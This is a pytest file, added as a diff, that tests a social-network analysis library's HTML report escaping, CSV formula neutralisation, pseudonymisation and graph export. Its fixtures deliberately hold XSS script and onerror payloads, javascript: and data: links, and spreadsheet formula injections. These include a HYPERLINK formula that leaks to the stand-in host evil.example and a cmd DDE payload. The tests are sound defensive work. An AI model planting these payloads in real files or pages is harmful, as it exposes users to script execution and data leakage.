@@ -1,0 +1,318 @@
+"""The briefing report, safe CSV export, pseudonymisation and the Gephi export.
+
+The fixture dataset is hostile on purpose: names, bios, posts and URLs carry script tags,
+event-handler attributes, ``javascript:`` links and spreadsheet formulas.
+"""
+
+from __future__ import annotations
+
+import csv
+import html
+import re
+import xml.etree.ElementTree as ET
+from types import SimpleNamespace
+
+import hypothesis.strategies as st
+import networkx as nx
+import pandas as pd
+import pytest
+from hypothesis import given, settings
+
+import netlib
+from netlib import report
+from netlib.triage import triage
+
+SCRIPT = ("<script>document.title='PWNED';"
+          "document.documentElement.setAttribute('data-pwned','1')</script>")
+IMG = "<img src=x onerror=\"document.documentElement.setAttribute('data-pwned','2')\">"
+JS_LINK = "javascript:document.title='PWNED'"
+FORMULA = '=HYPERLINK("http://evil.example/?leak","click me")'
+HANDLES = ["alice_ops", "bob_amplifier", "carol.news", "dave_old", "dave_old2", "erin_quiet"]
+
+
+def hostile_dataset() -> netlib.Dataset:
+    accounts = pd.DataFrame({
+        "account_id": ["a1", "a2", "a3", "a4", "a5", "a6"],
+        "platform": ["x", "x", "facebook", "x", "x", "telegram"],
+        "handle": HANDLES,
+        "display_name": [SCRIPT, FORMULA, "@SUM(1+1)", "Dave\x01\x02 Old", "-2+3",
+                         "Erin Quiet"],
+        "bio": [IMG, "+cmd|' /C calc'!A0", "fan of @alice_ops and Bob_Amplifier",
+                "<b>bold</b> & more", "back again, formerly @dave_old", "\tindented"],
+        "url": [JS_LINK, "https://example.org/bob", "http://x.com/carol.news", "", "",
+                "data:text/html,<script>alert(1)</script>"],
+        "created_at": ["2023-06-01", "2023-06-02", "2023-06-03", "2023-01-01",
+                       "2024-01-06", "2023-02-01"],
+        "status": ["active", "active", "active", "suspended", "active", "active"],
+        "suspended_at": ["", "", "", "2024-01-05", "", ""],
+    })
+    rows = []
+    base = pd.Timestamp("2024-01-01T10:00:00Z")
+    for k, obj in enumerate(["o1", "o2", "o3", "o4"]):
+        for j, acc in enumerate(["a1", "a2", "a3"]):
+            rows.append({"action_id": f"r{k}{j}", "account_id": acc,
+                         "timestamp": (base + pd.Timedelta(hours=5 * k, seconds=20 * j))
+                         .isoformat(), "kind": "repost", "object_id": obj,
+                         "text": f"{SCRIPT} {FORMULA} hi @dave_old", "urls": JS_LINK})
+    rows.append({"action_id": "p1", "account_id": "a4", "timestamp": "2024-01-02T09:00:00Z",
+                 "kind": "post", "object_id": "", "text": IMG, "urls": ""})
+    rows.append({"action_id": "p2", "account_id": "a5", "timestamp": "2024-01-07T09:00:00Z",
+                 "kind": "post", "object_id": "", "text": "-5", "urls": ""})
+    rows.append({"action_id": "p3", "account_id": "a6", "timestamp": "2024-01-08T09:00:00Z",
+                 "kind": "post", "object_id": "", "text": "hello", "urls": ""})
+    return netlib.Dataset.from_frames(accounts, pd.DataFrame(rows),
+                                      now=pd.Timestamp("2025-01-01", tz="UTC"))
+
+
+def hostile_analysis(*, with_triage: bool = True) -> SimpleNamespace:
+    """A stand-in Analysis with every result the report renders."""
+    data = hostile_dataset()
+    pairs = []
+    for obj in ["o1", "o2", "o3", "o4"]:
+        for a, b, lag in (("a1", "a2", 20), ("a1", "a3", 40), ("a2", "a3", 20)):
+            pairs.append({"object_id": obj, "account_id": a, "account_id_y": b,
+                          "content_id": f"r{obj[1:]}{a[1:]}", "content_id_y": f"r{obj[1:]}{b[1:]}",
+                          "time_delta": lag, "trace": "repost"})
+    coordination = SimpleNamespace(
+        clusters=pd.DataFrame({"account_id": ["a1", "a2", "a3"], "cluster_id": [1, 1, 1]}),
+        edges=pd.DataFrame({"account_id": ["a1", "a1", "a2"], "account_id_y": ["a2", "a3", "a3"],
+                            "weight": [4.0, 4.0, 4.0], "p_value": [1e-4, 1e-4, 1e-4],
+                            "q_value": [3e-4, 3e-4, 3e-4],
+                            "evidence": [f"shared o1 {SCRIPT}", "x", FORMULA]}),
+        pairs=pd.DataFrame(pairs),
+        cluster_stats=pd.DataFrame({"cluster_id": [1], "n_accounts": [3]}),
+        params={"window": 60})
+    mirrors = SimpleNamespace(
+        links=pd.DataFrame({"predecessor_id": ["a4"], "successor_id": ["a5"], "score": [0.91],
+                            "handle_similarity": [0.95], "rank": [1],
+                            "evidence": ["handle dave_old -> dave_old2 " + IMG]}),
+        chains=pd.DataFrame({"chain_id": [1, 1], "position": [0, 1], "account_id": ["a4", "a5"]}),
+        params={})
+    hubs = SimpleNamespace(
+        hubs=pd.DataFrame({"account_id": ["a1", "a2"], "hub_score": [0.9, 0.4], "rank": [1, 2],
+                           "leadership": [0.8, 0.1]}),
+        operator_groups=pd.DataFrame({"group_id": [1, 1], "account_id": ["a1", "a4"]}),
+        timezones=pd.DataFrame({"cluster_id": [1], "utc_offset_hours": [5.0], "low": [4.0],
+                                "high": [6.0], "pattern": ["evening peak"]}),
+        params={})
+    analysis = SimpleNamespace(dataset=data, coordination=coordination, mirrors=mirrors,
+                               hubs=hubs, triage=None, params={"window": 60, "seed": 0},
+                               provenance={"netlib": "test", "inputs": {"accounts.csv": "abc"}})
+    if with_triage:
+        watch = pd.DataFrame({"handle": ["@Alice_Ops", "dave_old", "dave_old2", "nobody_here",
+                                         "", "erin_quiet"],
+                              "platform": ["x", "", "", "x", "", ""],
+                              "received_at": ["2024-02-01"] * 6,
+                              "note": [SCRIPT, FORMULA, "", "never seen", "blank row", ""]})
+        analysis.triage = triage(watch, analysis)
+    return analysis
+
+
+def _tables(analysis) -> dict[str, pd.DataFrame]:
+    return {"accounts": analysis.dataset.accounts, "actions": analysis.dataset.actions,
+            "clusters": analysis.coordination.clusters,
+            "coordination_edges": analysis.coordination.edges,
+            "mirror_links": analysis.mirrors.links, "mirror_chains": analysis.mirrors.chains,
+            "hubs": analysis.hubs.hubs, "triage": analysis.triage}
+
+
+@pytest.fixture(scope="module")
+def analysis():
+    return hostile_analysis()
+
+
+@pytest.fixture(scope="module")
+def page(analysis, tmp_path_factory):
+    path = report.write_report(analysis, tmp_path_factory.mktemp("r") / "report.html")
+    return path.read_text(encoding="utf-8")
+
+
+def _body(page: str) -> str:
+    """The page without the inlined plotly.js bundle (which legitimately contains <script)."""
+    return re.sub(r"<script>.*?</script>", "<script>JS</script>", page, count=1, flags=re.S)
+
+
+# --- safe CSV -------------------------------------------------------------------------------
+@pytest.mark.parametrize("cell, expected", [
+    ("=1+1", "'=1+1"), ("+cmd", "'+cmd"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
+    ("\tx", "'\tx"), ("\rx", "'\rx"), ("＝1+1", "'＝1+1"), ("-5", "-5"), ("-3.5e2", "-3.5e2"),
+    ("+7", "+7"), ("plain", "plain"), ("", ""), ("a=b", "a=b"),
+])
+def test_neutralize_cell(cell, expected):
+    assert report.neutralize_cell(cell) == expected
+
+
+def test_write_tables_neutralises_formulas_but_not_numbers(analysis, tmp_path):
+    extra = pd.DataFrame({"delta": [-1.5, 2.0], "count": [-3, 4], "label": ["-x", "ok"]})
+    written = report.write_tables({**_tables(analysis), "numbers": extra}, tmp_path)
+    assert [p.name for p in written][-1] == "numbers.csv"
+    for path in written:
+        with open(path, encoding="utf-8", newline="") as handle:
+            for row in csv.DictReader(handle):
+                for col, value in row.items():
+                    if path.name == "numbers.csv" and col in ("delta", "count"):
+                        continue
+                    assert not value.startswith(("=", "+", "@", "\t", "\r")), (path.name, col)
+                    if value.startswith("-"):
+                        assert re.fullmatch(r"-[\d.eE+-]+", value), (path.name, col, value)
+    numbers = pd.read_csv(tmp_path / "numbers.csv")
+    assert numbers["delta"].tolist() == [-1.5, 2.0]
+    assert numbers["count"].tolist() == [-3, 4]
+    assert numbers["label"].tolist() == ["'-x", "ok"]
+    accounts = pd.read_csv(tmp_path / "accounts.csv", dtype=str, keep_default_na=False)
+    assert accounts.loc[1, "display_name"] == "'" + FORMULA
+
+
+def test_write_tables_is_deterministic_utf8(analysis, tmp_path):
+    first = report.write_tables(_tables(analysis), tmp_path / "a")
+    second = report.write_tables(_tables(analysis), tmp_path / "b")
+    for p, q in zip(first, second, strict=True):
+        assert p.read_bytes() == q.read_bytes()
+        assert b"\r\n" not in p.read_bytes()
+        p.read_bytes().decode("utf-8")
+
+
+def test_write_tables_rejects_bad_names(tmp_path):
+    with pytest.raises(netlib.ParameterError, match="no usable characters"):
+        report.write_tables({"///": pd.DataFrame({"a": [1]})}, tmp_path)
+    with pytest.raises(netlib.ParameterError, match="same.*a.csv|a.csv"):
+        report.write_tables({"a": pd.DataFrame(), "a/": pd.DataFrame()}, tmp_path)
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.text(max_size=20))
+def test_neutralized_cells_never_start_a_formula(text):
+    out = report.neutralize_cell(text)
+    assert out.endswith(text)
+    if out.startswith(("=", "+", "-", "@", "\t", "\r")):
+        assert re.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?", out)
+
+
+# --- the HTML report --------------------------------------------------------------------------
+def test_report_is_self_contained_and_offline(page):
+    body = _body(page)
+    assert page.count("<script") - body.count("<script") == 0  # bundle counted once in body
+    assert len(page) > 1_000_000  # plotly.js is inlined
+    assert "cdn.plot.ly" not in body and "cdn.jsdelivr" not in body
+    assert not re.search(r"""<(script|link|img|iframe)[^>]+(src|href)=["']?https?:""", body)
+    assert "@import" not in body and "fonts.googleapis" not in body
+    assert "Content-Security-Policy" in page
+    for div in ("fig-network", "fig-chains", "fig-heatmap", "fig-survival"):
+        assert f'id="{div}"' in page
+
+
+def test_report_escapes_hostile_text(page):
+    body = _body(page)
+    assert "setAttribute('data-pwned','1')</script>" not in body
+    assert "<img src=x" not in body
+    assert "onerror=" not in body.replace("onerror=&quot;", "").replace("onerror=\\", "")
+    assert html.escape(SCRIPT) in body  # shown as text
+    assert not re.search(r"""href=["']?\s*javascript:""", body, re.I)
+    assert not re.search(r"""href=["']?\s*data:""", body, re.I)
+    assert 'href="https://example.org/bob"' in body  # http(s) links stay clickable
+    scripts = re.findall(r"<script[^>]*>(.*?)</script>", body, re.S)
+    assert all("PWNED" not in s or "\\u003c" in s or "&lt;" in s for s in scripts)
+
+
+def test_report_sections_and_plain_findings(page):
+    for text in ("Executive summary", "Coordinated networks", "Mirror chains", "Likely operators",
+                 "Watch-list triage", "Methods and limits", "Provenance",
+                 "activity consistent with UTC+5 ± 1 h", "not proof of inauthenticity",
+                 "not found in the data", "contains identifiers"):
+        assert text in page, text
+    assert "dataset_fingerprint" in page
+
+
+def test_report_without_results(tmp_path):
+    data = hostile_dataset()
+    bare = SimpleNamespace(dataset=data, coordination=None, mirrors=None, hubs=None, triage=None,
+                           params={}, provenance={})
+    text = report.write_report(bare, tmp_path / "r.html").read_text(encoding="utf-8")
+    assert "No coordinated networks were found" in text
+    assert 'id="fig-heatmap"' in text
+
+
+def test_pseudonymized_report_needs_pseudonymized_input(analysis, tmp_path):
+    with pytest.raises(netlib.ParameterError, match="pseudonymize_analysis"):
+        report.write_report(analysis, tmp_path / "r.html", pseudonymized=True)
+
+
+# --- pseudonymisation ---------------------------------------------------------------------------
+def _all_text(folder) -> str:
+    """Every file's text; the inlined plotly.js bundle of an HTML file is left out."""
+    return "\n".join(_body(p.read_text(encoding="utf-8", errors="replace"))
+                     for p in sorted(folder.rglob("*")) if p.is_file())
+
+
+def test_pseudonymized_output_contains_no_original_handle(analysis, tmp_path):
+    tables = report.pseudonymize_tables(_tables(analysis), "s3cret", analysis.dataset)
+    report.write_tables(tables, tmp_path)
+    hidden = report.pseudonymize_analysis(analysis, "s3cret")
+    report.write_report(hidden, tmp_path / "report.html", pseudonymized=True)
+    report.export_graph(hidden, tmp_path)
+    text = _all_text(tmp_path).casefold()
+    everything = "".join(p.read_text(encoding="utf-8", errors="replace")
+                         for p in tmp_path.iterdir()).casefold()
+    for handle in [*HANDLES, "nobody_here", "Erin Quiet", "Dave\x01\x02 Old"]:
+        assert handle.casefold() not in everything, handle
+    for account_id in ["a1", "a2", "a5"]:
+        assert f'"{account_id}"' not in text and f",{account_id}," not in text
+    assert "pseudonymised" in text and "contains identifiers" not in text
+
+
+def test_pseudonyms_are_stable_and_keyed(analysis):
+    one = report.pseudonymize_tables(_tables(analysis), "k1", analysis.dataset)
+    again = report.pseudonymize_tables(_tables(analysis), "k1", analysis.dataset)
+    other = report.pseudonymize_tables(_tables(analysis), "k2", analysis.dataset)
+    pd.testing.assert_frame_equal(one["accounts"], again["accounts"])
+    assert set(one["accounts"]["account_id"]).isdisjoint(other["accounts"]["account_id"])
+    # the same account gets the same pseudonym in every table (joins still work)
+    ids = dict(zip(analysis.dataset.accounts["account_id"], one["accounts"]["account_id"],
+                   strict=True))
+    assert one["clusters"]["account_id"].tolist() == [ids[a] for a in ["a1", "a2", "a3"]]
+    assert one["mirror_links"]["successor_id"].tolist() == [ids["a5"]]
+    # handle case variants collapse to one pseudonym; quoted handles in text are replaced
+    triage_handles = one["triage"].set_index("entry")["handle"]
+    assert triage_handles[1] == one["accounts"].loc[0, "handle"]
+    assert one["accounts"].loc[0, "handle"] in one["accounts"].loc[2, "bio"]
+    assert report.pseudonym("x", "k1") != report.pseudonym("x", "k2")
+
+
+def test_pseudonymize_rejects_empty_key(analysis):
+    with pytest.raises(netlib.ParameterError, match="empty"):
+        report.pseudonymize_tables(_tables(analysis), "", analysis.dataset)
+
+
+# --- findings --------------------------------------------------------------------------------
+@pytest.mark.parametrize("hours, text", [(5, "UTC+5"), (-3.5, "UTC\u22123:30"), (0, "UTC±0"),
+                                         (5.75, "UTC+5:45")])
+def test_format_utc_offset(hours, text):
+    assert report.format_utc_offset(hours) == text
+
+
+def test_cluster_cards_facts(analysis):
+    cards = report.cluster_cards(analysis)
+    card = cards.iloc[0]
+    assert card["n_accounts"] == 3 and card["platforms"] == ["facebook", "x"]
+    assert card["median_lag_seconds"] == 20
+    assert card["min_q_value"] == pytest.approx(3e-4)
+    assert [o for o, _ in card["top_objects"]] == ["o1", "o2", "o3"]
+    lineage = report.lineage_cards(analysis)
+    assert lineage.iloc[0]["accounts"] == ["a4", "a5"]
+    assert lineage.iloc[0]["links"][0]["score"] == 0.91
+
+
+# --- Gephi export -------------------------------------------------------------------------------
+def test_export_graph_round_trips_hostile_text(analysis, tmp_path):
+    paths = report.export_graph(analysis, tmp_path)
+    assert sorted(p.name for p in paths) == ["coordination.gexf", "coordination.graphml",
+                                             "mirror_chains.gexf", "mirror_chains.graphml"]
+    for path in paths:
+        ET.parse(path)  # well-formed XML despite control characters and markup in names
+    graph = nx.read_graphml(tmp_path / "coordination.graphml")
+    assert set(graph.nodes) == {"a1", "a2", "a3"} and graph.number_of_edges() == 3
+    assert graph.nodes["a1"]["display_name"] == SCRIPT
+    chain = nx.read_gexf(tmp_path / "mirror_chains.gexf")
+    assert list(chain.edges) == [("a4", "a5")]
+    assert "\ufffd" in nx.read_graphml(tmp_path / "mirror_chains.graphml").nodes["a4"][
+        "display_name"]
